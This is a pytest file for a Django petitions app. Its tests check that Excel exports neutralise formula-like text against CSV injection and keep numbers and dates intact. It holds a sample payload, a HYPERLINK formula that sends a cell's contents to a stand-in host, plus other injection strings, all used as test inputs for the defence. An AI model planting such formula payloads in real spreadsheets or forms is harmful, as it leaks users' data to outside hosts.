"""Text that a spreadsheet would run (=, +, -, @, a tab or a carriage return first: "CSV injection") is
written as text in every Excel export, kept as typed; numbers and dates stay numbers and dates."""

from __future__ import annotations

import datetime
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from danvan.core.exports import sheet_cell, write_xlsx, xlsx_bytes
from danvan.lists.models import ExportJob
from danvan.petitions.models import Subject
from tests.factories import make_initiative

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x.example/?d="&B5,"Xem chi tiết")'
RISKY = ["=1+1", "+84 912 345 678", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def cells_of(content: bytes) -> list[Any]:
    return [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]


def assert_no_formula(cells: list[Any]) -> None:
    assert [c.coordinate for c in cells if c.data_type == "f"] == []


def text_cell(cells: list[Any], value: str) -> Any:
    found = [c for c in cells if c.value == value]
    assert found, f"{value!r} is not in the sheet as typed"
    assert all(c.data_type == "s" and c.quotePrefix for c in found)
    return found[0]


# --- the helper ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", RISKY)
def test_each_leading_character_is_written_as_text(text: str) -> None:
    from openpyxl import Workbook

    sheet = Workbook(write_only=True).create_sheet("T")
    cell = sheet_cell(sheet, text)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    cells = cells_of(xlsx_bytes(title=text, header=[text], rows=[[text, text]], notes=[text]))
    assert_no_formula(cells)
    assert [c.value for c in cells if c.value == text] == [text] * 5  # title, note, header, two cells
    text_cell(cells, text)


def test_numbers_dates_and_ordinary_text_are_left_alone() -> None:
    from openpyxl import Workbook

    sheet = Workbook(write_only=True).create_sheet("T")
    for value in (-5, 3, -2.5, 0, "Chi bộ thôn", "a=b", ""):
        assert sheet_cell(sheet, value) == value  # nothing to do: the plain value goes in as it is
    day = datetime.date(2026, 3, 2)
    assert sheet_cell(sheet, day).number_format == "d/m/yyyy"
    cells = cells_of(xlsx_bytes(title="T", header=["A", "B", "C", "D"], rows=[[-5, -2.5, day, "a=b"]]))
    row = {c.column_letter: c for c in cells if c.row == cells[-1].row}
    assert (row["A"].value, row["A"].data_type, row["B"].value, row["B"].data_type) == (-5, "n", -2.5, "n")
    assert row["C"].is_date and row["C"].value.date() == day and row["C"].number_format == "d/m/yyyy"
    assert (row["D"].value, row["D"].data_type, row["D"].quotePrefix) == ("a=b", "s", False)


def test_the_title_header_and_notes_of_a_list_export_are_neutralised_too(tmp_path) -> None:
    path = tmp_path / "x.xlsx"
    write_xlsx(path, title="=T", header=["=A", "-B"], rows=[[1, -1]], notes=["@ghi chú"])
    cells = cells_of(path.read_bytes())
    assert_no_formula(cells)
    for text in ("=T", "=A", "-B", "@ghi chú"):
        text_cell(cells, text)
    assert [c.value for c in cells if c.data_type == "n" and c.value is not None] == [1, -1]


# --- through the pages ---------------------------------------------------------------------------------


@pytest.fixture
def risky_data(tree) -> None:
    """A public petition and an initiative whose text a spreadsheet would run."""
    done = Client().post(
        reverse("public_petition"),
        {
            "kind": "pa",
            "unit_code": tree.commune_a.code,
            "subject": Subject.objects.get(name="Môi trường").pk,
            "content": HYPERLINK,
            "sender_name": "=1+1",
            "sender_id_number": "006180001111",
            "sender_address": "Thôn A1",
            "sender_phone": "0987 654 321",
        },
    )
    assert done.context["code"] != "—"
    make_initiative(tree.commune_a, "registered", name="=1+1", owner_name="@SUM(A1)")


def download(client: Client, name: str) -> bytes:
    response = client.get(reverse(name))
    if response.status_code == 302:  # the background export: the job is done already (immediate tasks)
        job = ExportJob.objects.filter(list_name={"case_export": "cases"}.get(name, "initiatives")).latest("created_at")
        assert job.status == "done", job.error
        return b"".join(client.get(reverse("export_file", args=[job.pk])).streaming_content)
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("background", [False, True], ids=["in-request", "background"])
def test_exports_keep_formula_like_text_as_text(risky_data, personas, settings, tmp_path, background) -> None:
    settings.DATA_DIR = tmp_path
    if background:
        settings.DANVAN_EXPORT_SYNC_ROWS = 0
    client = logged_in(personas.supervisor)

    cases = cells_of(download(client, "case_export"))
    assert_no_formula(cases)
    text_cell(cases, HYPERLINK)
    text_cell(cases, "=1+1")

    initiatives = cells_of(download(client, "initiative_export"))
    assert_no_formula(initiatives)
    text_cell(initiatives, "=1+1")
    text_cell(initiatives, "@SUM(A1)")
    assert ExportJob.objects.count() == (2 if background else 0)


def test_control_characters_do_not_break_an_export(tmp_path) -> None:
    """A petition pasted with \x01 or \x0b in it: the export is written, the readable text kept."""
    from openpyxl import load_workbook

    from danvan.core.exports import write_xlsx

    target = tmp_path / "x.xlsx"
    write_xlsx(target, title="Danh sách", header=["Nội dung"], rows=[["Đơn\x01 kiến\x0b nghị"], ["=1+1\x02"]])
    sheet = load_workbook(target).active
    values = [row[0] for row in sheet.iter_rows(values_only=True) if row and row[0]]
    assert "Đơn kiến nghị" in values and "=1+1" in values
